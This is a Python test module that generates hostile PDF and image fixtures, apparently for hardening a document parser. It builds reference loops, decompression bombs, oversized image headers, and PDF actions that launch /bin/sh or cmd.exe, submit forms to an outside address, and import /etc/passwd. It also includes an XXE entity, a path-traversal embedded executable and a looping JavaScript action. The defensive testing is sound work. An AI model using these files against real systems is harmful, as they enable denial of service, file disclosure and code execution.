"""PDFs and pictures that loop, claim, unpack, or act."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator, Mapping

from tests.hostile.case import Case, zlib_zeros

Objects = dict[int, str | bytes]

CATALOG: Objects = {1: "<< /Type /Catalog /Pages 2 0 R >>"}
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
SHOWS = b"BT /F 12 Tf 72 700 Td (words) Tj ET"
ONE: Objects = {2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PAGE, 5: FONT}


def pdf(objects: Mapping[int, str | bytes], trailer: str = "") -> bytes:
    """With a table that is right; what is wrong is in the objects."""
    out, places = b"%PDF-1.7\n", {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    table = len(out)
    most = max(objects) + 1
    lines = [b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(most)]
    out += b"xref\n0 %d\n" % most + b"".join(lines)
    return out + f"trailer\n<< /Size {most} /Root 1 0 R {trailer} >>\nstartxref\n{table}\n%%EOF\n".encode()


def stream(content: bytes, more: str = "") -> bytes:
    return f"<< /Length {len(content)} {more} >>\nstream\n".encode() + content + b"\nendstream"


def cases(address: str) -> Iterator[Case]:
    yield from _loops()
    yield from _large()
    yield from _unpacking()
    yield from _acting(address)
    yield from _pictures()


def _loops() -> Iterator[Case]:
    page: Objects = {**CATALOG, **ONE, 4: stream(SHOWS)}
    yield Case("pdf loop", "kids.pdf", pdf({**CATALOG, 2: "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"}))
    up = "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    yield Case("pdf loop", "two-kids.pdf", pdf({**CATALOG, 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: up}))
    yield Case("pdf loop", "parent.pdf", pdf({**page, 3: PAGE.replace("/Parent 2", "/Parent 3")}))
    yield Case("pdf loop", "contents.pdf", pdf({**page, 4: "[4 0 R 4 0 R]"}))
    yield Case("pdf loop", "length.pdf", pdf({**page, 4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"}))
    form = stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    shows: Objects = {**page, 3: PAGE.replace("/Font", "/XObject << /X 6 0 R >> /Font"), 4: stream(b"/X Do"), 6: form}
    yield Case("pdf loop", "form.pdf", pdf(shows))
    outline: Objects = {
        1: "<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>", 6: "<< /First 7 0 R /Last 7 0 R /Count 2 >>",
        7: "<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 6 0 R >>",
    }  # fmt: skip
    yield Case("pdf loop", "outline.pdf", pdf({**page, **outline}))
    names: Objects = {
        1: "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
        6: "<< /Kids [6 0 R] >>",
    }
    yield Case("pdf loop", "names.pdf", pdf({**page, **names}))
    tree: Objects = {1: "<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 6 0 R >>"}
    yield Case("pdf loop", "structure.pdf", pdf({**page, **tree, 6: "<< /Type /StructTreeRoot /K 6 0 R >>"}))
    whole = pdf(page)
    start = whole.rindex(b"startxref")
    prev = whole.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d " % whole.rindex(b"xref\n0"))
    yield Case("pdf loop", "previous-table.pdf", prev)
    yield Case("pdf loop", "startxref.pdf", whole[:start] + b"startxref\n0\n%%EOF")
    extends = stream(b"6 0 ", "/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")
    yield Case("pdf loop", "object-stream.pdf", pdf({**page, 6: extends}))


def _large() -> Iterator[Case]:
    page: Objects = {**CATALOG, **ONE, 4: stream(SHOWS)}
    for kids in (6_000, 1_000_000):
        many: Objects = {**page, 2: f"<< /Type /Pages /Kids [{'3 0 R ' * kids}] /Count {kids} >>"}
        yield Case("many pages", f"{kids}.pdf", pdf(many))
    yield Case("many pages", "claimed.pdf", pdf({**page, 2: "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"}))
    yield Case("many pages", "negative.pdf", pdf({**page, 2: "<< /Type /Pages /Kids [3 0 R] /Count -9 >>"}))
    for number, box in enumerate(("0 0 1e38 1e38", "0 0 0 0", "9 9 -9 -9", "0 0 14400 99999999", "0 0 NaN 1")):
        yield Case("strange page", f"box-{number}.pdf", pdf({**page, 3: PAGE.replace("0 0 600 800", box)}))
    deep = "[" * 100_000 + "]" * 100_000
    yield Case("pdf nesting", "arrays.pdf", pdf({**page, 6: deep}))
    yield Case("pdf nesting", "dictionaries.pdf", pdf({**page, 6: "<< /A " * 60_000 + "1" + " >>" * 60_000}))
    yield Case("pdf nesting", "states.pdf", pdf({**page, 4: stream(b"q " * 900_000 + SHOWS)}))
    strings = b"BT /F 12 Tf " + b"(" * 400_000 + b")" * 400_000 + b" Tj ET"
    yield Case("pdf nesting", "strings.pdf", pdf({**page, 4: stream(strings)}))
    text = b"BT /F 1 Tf 1 0 0 1 0 0 Tm " + b"(words words words) Tj 0 1 Td " * 100_000 + b"ET"
    yield Case("much on a page", "text.pdf", pdf({**page, 4: stream(zlib.compress(text), "/Filter /FlateDecode")}))
    lines = b"".join(b"%d %d m %d %d l S " % (n % 600, n % 800, n % 599, n % 799) for n in range(100_000))
    yield Case("much on a page", "lines.pdf", pdf({**page, 4: stream(zlib.compress(lines), "/Filter /FlateDecode")}))


def _unpacking() -> Iterator[Case]:
    page: Objects = {**CATALOG, **ONE}
    once = zlib_zeros(200 << 20)
    yield Case("pdf bomb", "once.pdf", pdf({**page, 4: stream(once, "/Filter /FlateDecode")}))
    twice = zlib.compress(zlib_zeros(1_000 << 20))
    yield Case("pdf bomb", "twice.pdf", pdf({**page, 4: stream(twice, "/Filter [/FlateDecode /FlateDecode]")}))
    many = " ".join(["/FlateDecode"] * 500)
    yield Case("pdf bomb", "five-hundred-filters.pdf", pdf({**page, 4: stream(once, f"/Filter [{many}]")}))
    runs = b"\x81\x00" * 2_000_000 + b"\x80"
    yield Case("pdf bomb", "run-length.pdf", pdf({**page, 4: stream(runs, "/Filter /RunLengthDecode")}))
    words = "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 >>"
    yield Case("pdf bomb", "predictor.pdf", pdf({**page, 4: stream(once[:1_000], words)}))
    for number, (width, filters) in enumerate(
        (
            (100_000, "/FlateDecode"),
            (65_000, "/DCTDecode"),
            (65_000, "/JPXDecode"),
            (65_000, "/JBIG2Decode"),
            (65_000, "/CCITTFaxDecode"),
        )
    ):
        told = (
            f"/Type /XObject /Subtype /Image /Width {width} /Height {width} /ColorSpace /DeviceRGB /BitsPerComponent 8"
        )
        image = stream(zlib_zeros(8 << 20) if not number else b"\x00" * 200, f"{told} /Filter {filters}")
        shows: Objects = {
            3: PAGE.replace("/Font", "/XObject << /X 6 0 R >> /Font"),
            4: stream(b"600 0 0 800 0 0 cm /X Do"),
        }
        yield Case("huge picture", f"within-{number}.pdf", pdf({**page, **shows, 6: image}))
    ranges = "\n".join("<0000> <ffff> <0000>" for _ in range(20_000))
    cmap = f"/CIDInit /ProcSet findresource begin begincmap 20000 beginbfrange\n{ranges}\nendbfrange endcmap".encode()
    font = (
        "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [7 0 R] >>"
    )
    kid = "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >> >>"
    yield Case("pdf bomb", "unicode-map.pdf", pdf({**page, 4: stream(SHOWS), 5: font, 6: stream(cmap), 7: kid}))


def _acting(address: str) -> Iterator[Case]:
    page: Objects = {**CATALOG, **ONE, 4: stream(SHOWS)}
    actions = {
        "javascript": "<< /S /JavaScript /JS (app.alert\\(1\\); while\\(1\\);) >>",
        "launch": "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        "uri": f"<< /S /URI /URI (http://{address}/uri) >>",
        "submit": f"<< /S /SubmitForm /F << /FS /URL /F (http://{address}/form) >> >>",
        "import": "<< /S /ImportData /F (/etc/passwd) >>",
        "go-elsewhere": f"<< /S /GoToR /F (//{address}/share/x.pdf) /D [0 /Fit] >>",
    }
    for name, action in actions.items():
        opens: Objects = {1: f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} /AA << /WC {action} >> >>"}
        yield Case("pdf action", f"{name}.pdf", pdf({**page, **opens}))
    keyed = f"/AA << /K {actions['javascript']} >>"
    form: Objects = {
        1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /XFA 7 0 R >> >>",
        3: PAGE.replace("/Contents", "/Annots [6 0 R] /Contents"),
        6: f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /Parent 6 0 R {keyed} >>",
        7: stream(b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    }
    yield Case("pdf action", "form.pdf", pdf({**page, **form}))
    file = stream(b"MZ" + bytes(4_000), "/Type /EmbeddedFile")
    embedded: Objects = {
        1: "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>",
        6: "<< /Type /Filespec /F (../../a.exe) /UF (../../a.exe) /EF << /F 7 0 R >> >>", 7: file,
    }  # fmt: skip
    yield Case("pdf action", "embedded.pdf", pdf({**page, **embedded}))
    outside = b"<< /Length 0 /F << /FS /URL /F (http://%s/stream) >> >>\nstream\n\nendstream" % address.encode()
    yield Case("asks elsewhere", "stream.pdf", pdf({**page, 4: outside}))
    words = "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a) (b)]"
    yield Case("encrypted document", "password.pdf", pdf(page, words))
    yield Case("encrypted document", "unknown.pdf", pdf(page, "/Encrypt << /Filter /Other /V 99 >>"))


def png(width: int, height: int, data: bytes) -> bytes:
    def part(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", data) + part(b"IEND", b"")


def _pictures() -> Iterator[Case]:
    yield Case("huge picture", "claimed.png", png(2**31 - 1, 2**31 - 1, zlib.compress(bytes(100))))
    yield Case("huge picture", "bomb.png", png(30_000, 30_000, zlib_zeros(200 << 20)))
    yield Case(
        "huge picture",
        "claimed.gif",
        b"GIF89a\xff\xff\xff\xff\xf7\x00\x00" + bytes(768) + b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x08",
    )
    jpeg = (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03"
    )
    yield Case("huge picture", "claimed.jpg", jpeg + b"\x01\x11\x00\x02\x11\x01\x03\x11\x01\xff\xda" + bytes(400))
    for order, word in ((b"II*\x00", "<"), (b"MM\x00*", ">")):
        loop = order + struct.pack(f"{word}IH", 8, 1) + struct.pack(f"{word}HHII", 256, 4, 1, 2**31 - 1)
        yield Case("picture loop", f"{word == '<'}.tif", loop + struct.pack(f"{word}I", 8))
    bmp = b"BM" + struct.pack("<IHHIIiiHHIIiiII", 60, 0, 0, 54, 40, 2**31 - 1, -(2**31), 1, 24, 0, 0, 0, 0, 0, 0)
    yield Case("huge picture", "claimed.bmp", bmp)
    webp = b"RIFF\xff\xff\xff\x7fWEBPVP8X\x0a\x00\x00\x00\x10\x00\x00\x00\xff\xff\xff\xff\xff\xff"
    yield Case("huge picture", "claimed.webp", webp)
